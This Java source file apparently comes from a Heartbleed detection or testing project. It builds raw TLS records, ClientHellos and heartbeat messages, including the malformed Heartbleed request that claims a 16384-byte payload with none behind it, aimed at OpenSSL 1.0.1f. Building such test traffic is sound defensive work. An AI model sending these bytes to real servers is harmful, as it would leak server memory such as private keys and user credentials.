package io.heartguard.evasion;

import io.heartguard.wire.Bytes;
import io.heartguard.wire.handshake.ClientHello;
import io.heartguard.wire.handshake.ClientHellos;
import io.heartguard.wire.heartbeat.HeartbeatMessage;
import io.heartguard.wire.heartbeat.HeartbeatProbe;
import io.heartguard.wire.record.ProtocolVersion;
import java.io.ByteArrayOutputStream;
import java.util.Arrays;
import java.util.SplittableRandom;

/** The bytes the attacks are made of; each builder says what its bytes mean to OpenSSL 1.0.1f's server. */
final class AttackBytes {
  private AttackBytes() {}

  static final int HANDSHAKE = 22;
  static final int CHANGE_CIPHER_SPEC = 20;
  static final int ALERT = 21;
  static final int APPLICATION_DATA = 23;
  static final int HEARTBEAT = 24;

  /** The classic claim: payload_length 2^14 with no payload behind it. */
  static final int CLAIM = 16384;

  /**
   * The largest honest request that fits one record: 3 + 16365 + 16 = 2^14 bytes. Its answer is over the ~4 KB
   * that 1.0.1f needs before the handshake completes to send an answer at all (fixtures/openssl/README.md).
   */
  static final int LARGEST_HONEST_PAYLOAD = (1 << 14) - 3 - 16;

  /** A record: type, version, 16-bit length, fragment (RFC 5246 section 6.2.1). */
  static byte[] record(int type, int version, byte[] fragment) {
    byte[] out = new byte[5 + fragment.length];
    out[0] = (byte) type;
    out[1] = (byte) (version >>> 8);
    out[2] = (byte) version;
    out[3] = (byte) (fragment.length >>> 8);
    out[4] = (byte) fragment.length;
    System.arraycopy(fragment, 0, out, 5, fragment.length);
    return out;
  }

  static byte[] record(int type, byte[] fragment) {
    return record(type, ProtocolVersion.TLS1_2.code(), fragment);
  }

  /** A TLS 1.2 ClientHello as 1.0.1's s_client sent it, heartbeat extension included, as a handshake message. */
  static byte[] clientHelloMessage() {
    return clientHelloMessage(ProtocolVersion.TLS1_2);
  }

  static byte[] clientHelloMessage(ProtocolVersion version) {
    ClientHello hello = ClientHellos.like2014(version, null, new SplittableRandom(20140407L));
    return hello.toMessage().toByteArray();
  }

  /** The ClientHello in one handshake record of the given record version. */
  static byte[] clientHello(int recordVersion) {
    return record(HANDSHAKE, recordVersion, clientHelloMessage());
  }

  static byte[] clientHello() {
    return clientHello(ProtocolVersion.TLS1_2.code());
  }

  /**
   * An SSLv2-compatible ClientHello with the 2-byte header, as 1.0.1's {@code ssl23_get_client_hello} reads it
   * (RFC 5246 appendix E.2): length with the top bit set, msg_type 1, version, cipher_spec_length,
   * session_id_length 0, challenge_length 16, the cipher specs (3 bytes each), the challenge. No extensions can be
   * sent this way, so no heartbeat extension: 1.0.1f answers heartbeats anyway.
   */
  static byte[] sslv2ClientHello(ProtocolVersion version) {
    // TLS_RSA_WITH_AES_128_CBC_SHA, TLS_RSA_WITH_AES_256_CBC_SHA, TLS_RSA_WITH_3DES_EDE_CBC_SHA, and
    // SSL2_RC4_128_WITH_MD5 (a real SSLv2 cipher kind, as an old client offering SSLv2 lists it).
    byte[] specs = Bytes.ofHex("00002f 000035 00000a 010080").toByteArray();
    byte[] challenge = new byte[16];
    new SplittableRandom(1996).nextBytes(challenge);
    ByteArrayOutputStream body = new ByteArrayOutputStream();
    body.write(1);
    body.write(version.major());
    body.write(version.minor());
    body.write(specs.length >>> 8);
    body.write(specs.length);
    body.write(0);
    body.write(0);
    body.write(0);
    body.write(challenge.length);
    body.writeBytes(specs);
    body.writeBytes(challenge);
    int length = body.size();
    return concat(new byte[] {(byte) (0x80 | (length >>> 8)), (byte) length}, body.toByteArray());
  }

  /** The Heartbleed request: heartbeat_request, payload_length {@code claim}, no payload and no padding. */
  static byte[] heartbleed(int claim) {
    return record(HEARTBEAT, heartbleedMessage(claim));
  }

  /** An empty request with payload_length overridden, cut to its 3-byte header: what testssl sends. */
  static byte[] heartbleedMessage(int claim) {
    return Arrays.copyOf(HeartbeatProbe.withDeclaredPayloadLength(HeartbeatMessage.request(Bytes.EMPTY), claim), 3);
  }

  /** A well-formed request: {@code payloadLength} bytes of {@code fill}, 16 bytes of padding. */
  static byte[] honest(int payloadLength, int fill) {
    return record(HEARTBEAT, honestMessage(payloadLength, fill));
  }

  static byte[] honestMessage(int payloadLength, int fill) {
    return HeartbeatMessage.request(Bytes.repeat(fill, payloadLength)).toByteArray();
  }

  static byte[] concat(byte[]... parts) {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    for (byte[] p : parts) {
      out.writeBytes(p);
    }
    return out.toByteArray();
  }
}
